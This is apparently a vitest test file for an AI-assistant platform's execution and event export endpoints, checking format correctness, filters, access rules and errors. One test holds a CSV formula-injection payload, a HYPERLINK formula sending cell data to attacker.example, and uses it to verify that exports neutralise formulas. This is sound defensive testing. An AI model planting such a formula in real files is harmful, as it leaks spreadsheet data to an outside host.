import { getExecutionEvents } from '@aae/client';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collectExecutionEvents } from './testing/subscription.ts';
import { startTestApp, type TestApp, type TestPerson } from './testing/test-app.ts';

let app: TestApp;
const demoRuns: number[] = [];
let adminRun: number;

async function run(user: TestPerson, topic: string) {
  const client = app.client(user);
  const [assistant] = (await client.assistants.list.query()).items;
  const { executionId } = await client.executions.execute.mutate({ assistantId: assistant!.id, input: { topic } });
  await collectExecutionEvents(client, { executionId }).completed;
  return executionId;
}

const get = (path: string, user?: TestPerson) => fetch(`${app.url}${path}`, { headers: user ? { authorization: `Bearer ${app.tokenOf(user)}` } : {} });

beforeAll(async () => {
  app = await startTestApp();
  demoRuns.push(await run('demo', 'mangroves'), await run('demo', 'salt marsh'));
  adminRun = await run('admin', 'seagrass');
});
afterAll(() => app?.stop());

describe('exports by URL', () => {
  it('downloads an execution’s events as NDJSON, JSON and CSV whose rows equal the API’s', async () => {
    const executionId = demoRuns[0]!;
    const api = await getExecutionEvents(app.client('demo'), executionId);
    const expected = api.map((event) => ({
      id: event.id,
      executionId: event.executionId,
      sequence: event.sequence,
      eventType: event.eventType,
      createdAt: event.createdAt.toISOString(),
      eventData: event.eventData,
    }));

    const ndjson = await get(`/api/executions/${executionId}/events.ndjson`, 'demo');
    expect(ndjson.status).toBe(200);
    expect(ndjson.headers.get('content-type')).toContain('application/x-ndjson');
    expect(ndjson.headers.get('content-disposition')).toBe(`attachment; filename="execution-${executionId}-events.ndjson"`);
    const lines = (await ndjson.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toEqual(expected);

    const json = await get(`/api/executions/${executionId}/events.json`, 'demo');
    expect(await json.json()).toEqual(expected);

    const csv = await get(`/api/executions/${executionId}/events.csv`, 'demo');
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const rows = parse(await csv.text(), { columns: true }) as Array<Record<string, string>>;
    expect(
      rows.map((row) => ({
        id: Number(row.id),
        executionId: Number(row.execution_id),
        sequence: Number(row.sequence),
        eventType: row.event_type,
        createdAt: row.created_at,
        eventData: JSON.parse(row.event_data!),
      })),
    ).toEqual(expected);
    expect(rows.map((row) => row.event_id)).toEqual(api.map((event) => event.eventData.eventId));

    const onlyCompletes = await (await get(`/api/executions/${executionId}/events.ndjson?type=prompt-complete`, 'demo')).text();
    expect(onlyCompletes.trim().split('\n')).toHaveLength(3);
  });

  it('exports a filtered history: a user gets their own, an admin filters by anyone', async () => {
    const mine = (await (await get('/api/executions.json', 'demo')).json()) as Array<{ id: number; user: string }>;
    expect(mine.map((row) => row.id).sort()).toEqual([...demoRuns].sort());
    const adminAll = (await (await get('/api/executions.json?sort=tokens&order=asc', 'admin')).json()) as Array<{ id: number; totalTokens: number }>;
    expect(adminAll.map((row) => row.id).sort()).toEqual([...demoRuns, adminRun].sort());
    expect(adminAll.map((row) => row.totalTokens)).toEqual([...adminAll.map((row) => row.totalTokens)].sort((a, b) => a - b));

    const events = parse(await (await get('/api/events.csv?userName=demo&type=execution-complete', 'admin')).text(), { columns: true }) as Array<
      Record<string, string>
    >;
    expect(events.map((row) => Number(row.execution_id)).sort()).toEqual([...demoRuns].sort());
    expect(new Set(events.map((row) => row.event_type))).toEqual(new Set(['execution-complete']));
    const executionsCsv = parse(await (await get('/api/executions.csv?status=completed', 'admin')).text(), { columns: true }) as Array<Record<string, string>>;
    expect(executionsCsv).toHaveLength(3);
    expect(Object.keys(executionsCsv[0]!)).toEqual([
      'id',
      'assistant',
      'user',
      'status',
      'created_at',
      'started_at',
      'finished_at',
      'duration_ms',
      'total_tokens',
      'error',
      'input',
    ]);
  });

  it('writes a cell a spreadsheet would take for a formula as text', async () => {
    const admin = app.client('admin');
    const [model] = await admin.assistants.models.query();
    const name = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
    const assistant = await admin.assistants.create.mutate({
      name,
      visibility: 'private',
      prompts: [{ name: '+Step', position: 1, modelId: model!, content: 'Say -1 and @someone' }],
    });
    const { executionId } = await admin.executions.execute.mutate({ assistantId: assistant.id, input: {} });
    await collectExecutionEvents(admin, { executionId }).completed;
    const csv = await (await get(`/api/executions.csv?assistantName=${encodeURIComponent('HYPERLINK')}`, 'admin')).text();
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(1);
    // A leading ' makes spreadsheets show the cell as text; numbers (e.g. a negative one) stay numbers.
    expect(rows[0]!.assistant).toBe(`'${name}`);
    expect(rows[0]!.duration_ms).toMatch(/^\d+$/);
  });

  it('answers with the API’s rules and clear errors', async () => {
    expect((await get(`/api/executions/${adminRun}/events.csv`)).status).toBe(401);
    // Someone else's execution answers exactly like one that does not exist.
    const hidden = await get(`/api/executions/${adminRun}/events.csv`, 'demo');
    expect(hidden.status).toBe(404);
    expect(await hidden.json()).toEqual({ error: `Execution ${adminRun} does not exist` });
    expect((await get('/api/executions/999999/events.json', 'admin')).status).toBe(404);
    const bad = await get('/api/events.json?status=exploded', 'admin');
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: string }).error).toContain('status');
    const unknownParameter = await get('/api/events.json?colour=red', 'admin');
    expect(((await unknownParameter.json()) as { error: string }).error).toContain('colour');
    expect((await get('/api/nothing-here', 'admin')).status).toBe(404);
  });
});
